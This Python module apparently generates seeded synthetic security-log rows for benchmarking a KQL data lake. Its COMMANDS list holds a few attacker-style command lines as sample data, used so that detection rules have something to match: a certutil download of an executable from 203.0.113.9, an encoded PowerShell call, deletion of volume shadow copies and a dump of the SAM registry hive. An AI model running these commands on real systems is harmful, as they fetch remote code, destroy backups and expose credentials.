"""Seeded rows of any table: the columns that rules read, filled with values that rules look for now and then."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator, Mapping
from typing import TYPE_CHECKING

import numpy as np
import pyarrow as pa

from nephoscope.lake.schema.column_types import TIME
from nephoscope.lake.schema.row_conversion import complete_rows
from nephoscope_kql.types import KqlType

if TYPE_CHECKING:
    from nephoscope.lake.lake import Lake
    from nephoscope.lake.schema.table import LakeTable

CHUNK = 250_000
USERS = [f"user{place}@contoso.com" for place in range(1000)]
HOSTS = [f"host{place}.contoso.com" for place in range(500)]
ADDRESSES = [f"{20 + place % 80}.{place % 251}.{place % 17}.{place % 253 + 1}" for place in range(5000)]
EVENTS = (
    [4624] * 60 + [4625] * 10 + [4688] * 20 + [4672, 4720, 4728, 4732, 1102, 4663, 5140, 7045, 4104, 4768]
)
RESULTS = ["0"] * 90 + ["50126"] * 5 + ["50053", "50057", "53003", "500121", "50074"]
OPERATIONS = [
    *["Sign-in activity", "Update user", "Read", "GetBlob", "PutBlob", "ListBlobs", "FileAccessed"] * 10,
    "Add member to role", "Consent to application", "Add service principal credentials", "Delete user", "FileDownloaded",
    "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
    "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION", "New-InboxRule", "Set-Mailbox",
]  # fmt: skip
COMMANDS = [
    *[f"C:\\Windows\\System32\\svchost.exe -k group{place} -p" for place in range(200)],
    "powershell.exe -enc SQBFAFgA", "certutil.exe -urlcache -f http://203.0.113.9/a.exe", "whoami /all", "net user /domain",
    "rundll32.exe shell32.dll,Control_RunDLL", "vssadmin delete shadows /all", "reg save HKLM\\SAM sam.hiv",
]  # fmt: skip
WORDS = [
    *["Success", "Succeeded", "Allow", "Accept", "Informational"] * 12,
    *["Failure", "Failed", "Deny", "Denied", "Blocked", "High", "Medium", "Low", "Warning", "Error"],
]
BAGS = [
    "{}",
    '{"user":{"userPrincipalName":"user1@contoso.com","ipAddress":"20.0.0.1"}}',
    '[{"displayName":"Role","newValue":"Owner"}]',
]
#: What a column holds, by a part of its name in lower case; the first that fits.
_BY_NAME = (
    ("eventid", [str(one) for one in EVENTS]), ("resulttype", RESULTS), ("principalname", USERS), ("user", USERS), ("account", USERS),
    ("caller", USERS), ("identity", USERS), ("ipaddress", ADDRESSES), ("ip", ADDRESSES), ("address", ADDRESSES),
    ("computer", HOSTS), ("host", HOSTS), ("device", HOSTS), ("operation", OPERATIONS), ("activity", OPERATIONS),
    ("command", COMMANDS), ("process", COMMANDS), ("message", COMMANDS), ("file", COMMANDS), ("url", COMMANDS), ("uri", COMMANDS),
)  # fmt: skip


def values_of(column: str) -> list[str]:
    """What a column of texts holds."""
    lowered = column.lower()
    if "callerip" in lowered:
        return ADDRESSES
    return next((values for part, values in _BY_NAME if part in lowered), WORDS)


def made(
    table: LakeTable,
    columns: Mapping[str, KqlType],
    start: dt.datetime,
    length: dt.timedelta,
    count: int,
    seed: int,
) -> pa.Table:
    """So many rows spread evenly over a length of time."""
    luck = np.random.default_rng(seed)
    first = int(start.timestamp() * 1e6)
    times = first + np.sort(luck.integers(0, int(length.total_seconds() * 1e6), count))
    arrays: dict[str, pa.Array] = {TIME: pa.array(times, pa.timestamp("us", "UTC"))}
    for name, kind in columns.items():
        if name not in arrays:
            arrays[name] = _column(name, kind, times, luck)
    return pa.table({name: arrays[name] for name in table.types if name in arrays})


def _column(name: str, kind: KqlType, times: np.ndarray, luck: np.random.Generator) -> pa.Array:
    count = len(times)
    if kind is KqlType.STRING:
        return _packed(values_of(name), count, luck)
    if kind is KqlType.DYNAMIC:
        return _packed(BAGS, count, luck).cast(pa.string())
    if kind is KqlType.DATETIME:
        return pa.array(times, pa.timestamp("us", "UTC"))
    if kind is KqlType.BOOL:
        return pa.array(luck.integers(0, 2, count).astype(bool))
    if kind is KqlType.INT or kind is KqlType.LONG:
        whole = luck.choice(EVENTS, count) if "eventid" in name.lower() else luck.integers(0, 100_000, count)
        return pa.array(whole, pa.int32() if kind is KqlType.INT else pa.int64())
    if kind is KqlType.REAL:
        return pa.array(luck.random(count) * 1000)
    if kind is KqlType.GUID:
        return _packed([f"00000000-0000-0000-0000-{place:012}" for place in range(500)], count, luck).cast(
            pa.string()
        )
    return pa.nulls(count, pa.decimal128(38, 17) if kind is KqlType.DECIMAL else pa.int64())


def _packed(values: list[str], count: int, luck: np.random.Generator) -> pa.Array:
    distinct = list(dict.fromkeys(values))
    places = {value: place for place, value in enumerate(distinct)}
    chosen = np.array([places[value] for value in values], np.int32)[luck.integers(0, len(values), count)]
    return pa.DictionaryArray.from_arrays(pa.array(chosen, pa.int32()), pa.array(distinct, pa.string()))


def fill(
    lake: Lake,
    columns: Mapping[str, Mapping[str, KqlType]],
    stretches: list[tuple[dt.datetime, dt.timedelta, int]],
) -> int:
    """Put rows into tables: of each stretch (start, length, rows in all tables) an equal part in each; how many rows."""
    total = 0
    workspace = lake.workspace("default")
    for place, (name, chunk) in enumerate(_chunks(list(columns), stretches)):
        start, length, count = chunk
        rows = made(lake.tables[name], columns[name], start, length, count, place)
        whole = complete_rows(lake.tables[name], rows, workspace=workspace, now=start + length).table
        lake.writer().append("default", {name: whole}, producer=f"bench-{name}", sequence=place)
        total += whole.num_rows
        if place % 8 == 7:
            lake.flush(600)
    lake.flush(600)
    return total


def _chunks(
    names: list[str], stretches: list[tuple[dt.datetime, dt.timedelta, int]]
) -> Iterator[tuple[str, tuple[dt.datetime, dt.timedelta, int]]]:
    for start, length, rows in stretches:
        for name in names:
            count = rows // len(names)
            parts = -(-count // CHUNK)
            for part in range(parts):
                yield name, (start + part * length / parts, length / parts, count // parts)
